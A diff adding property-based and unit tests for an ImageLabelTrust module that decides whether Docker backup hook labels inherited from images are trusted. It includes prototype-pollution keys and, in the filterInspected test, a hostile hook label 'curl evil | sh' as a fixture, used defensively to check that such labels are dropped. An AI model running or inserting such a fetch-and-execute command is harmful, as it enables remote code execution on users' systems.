@@ -4,7 +4,9 @@ import fc from 'fast-check';
 import {
   ImageLabelTrust,
   hasSensitiveLabel,
+  sensitiveImageValues,
   sensitiveSpecPaths,
+  untrustedByImage,
   untrustedLabels,
 } from './image-label-trust.js';
 import { ownedKeys } from './label-decoder.js';
@@ -124,6 +126,105 @@ describe('ImageLabelTrust', () => {
     });
   });
 
+  describe('untrustedByImage (the per-image form)', () => {
+    // Aliases, explicit paths, legacy keys and names an ordinary object reads from its prototype.
+    const key = fc.constantFrom(
+      'backrest.enable',
+      'backrest.pre',
+      'backrest.pre.1',
+      'backrest.prefix',
+      'backrest.keep',
+      'backrest.paths.include',
+      'backrest.__proto__',
+      'backrest.constructor',
+      'restic-compose-backup.pre',
+      'restic-compose-backup.keep',
+      'restic-compose-backup.volumes',
+      'legacy.hook',
+      'legacy.hook.x',
+      '__proto__',
+      'constructor',
+      'toString',
+      'hasOwnProperty',
+      'com.docker.compose.service',
+    );
+    // Few values, so the container's often equal the image's.
+    const value = fc.oneof(
+      { arbitrary: fc.constantFrom('', 'x', 'daily=7', 'toString'), weight: 6 },
+      fc.string(),
+      // Hostile input need not be a string.
+      fc.constant(7 as unknown as string),
+    );
+    const entries = fc.array(fc.tuple(key, value), { maxLength: 10 });
+    // Built with defineProperty semantics (Object.fromEntries): `__proto__` becomes an own key.
+    // Null-prototype as ownLabels gives, plain, or over a prototype with enumerable labels.
+    const labelMap = fc
+      .tuple(entries, fc.constantFrom('plain', 'bare', 'inherits'), entries)
+      .map(([own, shape, inherited]) => {
+        const m = Object.fromEntries(own) as Record<string, string>;
+        if (shape === 'bare') return Object.setPrototypeOf(m, null) as Record<string, string>;
+        if (shape === 'inherits') Object.setPrototypeOf(m, Object.fromEntries(inherited));
+        return m;
+      });
+    const anySelector: fc.Arbitrary<LabelSelector> = fc.record(
+      {
+        prefixes: fc.subarray(['backrest.', 'restic-compose-backup.', 'legacy.', ''], {
+          minLength: 1,
+        }),
+        paths: fc.constantFrom<Record<string, string>>(
+          { 'restic-compose-backup.volumes': 'rcb.volumes.enabled' },
+          { 'legacy.hook': 'pre', toString: 'keep' },
+          Object.fromEntries([['__proto__', 'pre']]) as Record<string, string>,
+        ),
+        sensitivePaths: fc.subarray(['pre', 'keep', 'paths.include', '__proto__', 'constructor']),
+        sensitiveLabels: fc.subarray(['legacy.hook', 'backrest.keep', 'constructor', 'nobody.x']),
+      },
+      { requiredKeys: ['prefixes'] },
+    );
+
+    it('agrees with untrustedLabels on any labels, image labels and selector', () => {
+      fc.assert(
+        fc.property(anySelector, labelMap, labelMap, (sel, labels, image) => {
+          const expected = untrustedLabels(sel, labels, image);
+          const fromImage = sensitiveImageValues(sel, image);
+          expect(untrustedByImage(sel, labels, fromImage)).to.deep.equal(expected);
+          // Given the owned keys (the tracker's one scan), the same answer.
+          const owned = ownedKeys(sel, labels);
+          expect(untrustedByImage(sel, labels, fromImage, owned)).to.deep.equal(expected);
+        }),
+        { numRuns: 2000 },
+      );
+    });
+
+    it('agrees when the container inherits the image labels and adds its own', () => {
+      fc.assert(
+        fc.property(anySelector, labelMap, labelMap, (sel, image, own) => {
+          const labels = Object.fromEntries([...Object.entries(image), ...Object.entries(own)]);
+          const expected = untrustedLabels(sel, labels, image);
+          const fromImage = sensitiveImageValues(sel, image);
+          expect(untrustedByImage(sel, labels, fromImage)).to.deep.equal(expected);
+          const owned = ownedKeys(sel, labels);
+          expect(untrustedByImage(sel, labels, fromImage, owned)).to.deep.equal(expected);
+        }),
+        { numRuns: 1000 },
+      );
+    });
+
+    it('ignores inherited members and non-string values of both maps', () => {
+      const image = Object.assign(Object.create({ 'backrest.post': 'x' }) as object, {
+        'backrest.pre': 1,
+      }) as unknown as Record<string, string>;
+      const fromImage = sensitiveImageValues(selector, image);
+      expect(fromImage.size).to.equal(0);
+      const inherited = Object.create({ 'backrest.pre': 'x' }) as Record<string, string>;
+      const values = sensitiveImageValues(selector, { 'backrest.pre': 'x' });
+      expect(untrustedByImage(selector, inherited, values)).to.deep.equal([]);
+      expect(untrustedByImage(selector, { 'backrest.pre': 'x' }, values)).to.deep.equal([
+        'backrest.pre',
+      ]);
+    });
+  });
+
   describe('filter', () => {
     it('drops untrusted labels, inspecting each image once', async () => {
       const engine = new FakeEngine();
@@ -158,6 +259,37 @@ describe('ImageLabelTrust', () => {
       engine.up = true;
       const back = await trust.filter(selector, { labels, imageId: 'sha256:img1' }, false);
       expect(back.untrusted).to.deep.equal([]);
+    });
+
+    it('filterInspected answers only once the image was inspected OK, without asking again', async () => {
+      const engine = new FakeEngine();
+      engine.imageLabels.set('sha256:evil', { 'restic-compose-backup.post': 'curl evil | sh' });
+      const trust = new ImageLabelTrust(engine.client());
+      const evil = { 'backrest.enable': 'true', 'backrest.post': 'curl evil | sh' };
+      const mine = { 'backrest.enable': 'true', 'backrest.post': 'echo mine' };
+      const on = (labels: Record<string, string>, imageId = 'sha256:evil') => ({ labels, imageId });
+      expect(trust.filterInspected(selector, on(evil))).to.equal(undefined);
+      const pending = trust.filter(selector, on(evil), false);
+      // Asked but not answered yet.
+      expect(trust.filterInspected(selector, on(evil))).to.equal(undefined);
+      const awaited = await pending;
+      const now = trust.filterInspected(selector, on(evil), ownedKeys(selector, evil));
+      expect(now).to.deep.equal(awaited);
+      expect(now).to.deep.include({ untrusted: ['backrest.post'], why: 'image' });
+      expect({ ...now?.labels }).to.deep.equal({ 'backrest.enable': 'true' });
+      const kept = trust.filterInspected(selector, on(mine));
+      expect(kept).to.deep.equal({ labels: mine, untrusted: [] });
+      expect(kept?.labels).to.equal(mine);
+      expect(engine.count('image')).to.equal(1);
+
+      // A failed lookup is not kept: no synchronous answer, and filter asks again (fail closed).
+      engine.up = false;
+      await trust.filter(selector, on(mine, 'sha256:img1'), false);
+      expect(trust.filterInspected(selector, on(mine, 'sha256:img1'))).to.equal(undefined);
+      engine.up = true;
+      await trust.filter(selector, on(mine, 'sha256:img1'), false);
+      expect(trust.filterInspected(selector, on(mine, 'sha256:img1'))?.untrusted).to.deep.equal([]);
+      expect(engine.count('image')).to.equal(3);
     });
 
     it('does not inspect when no sensitive label is present', async () => {
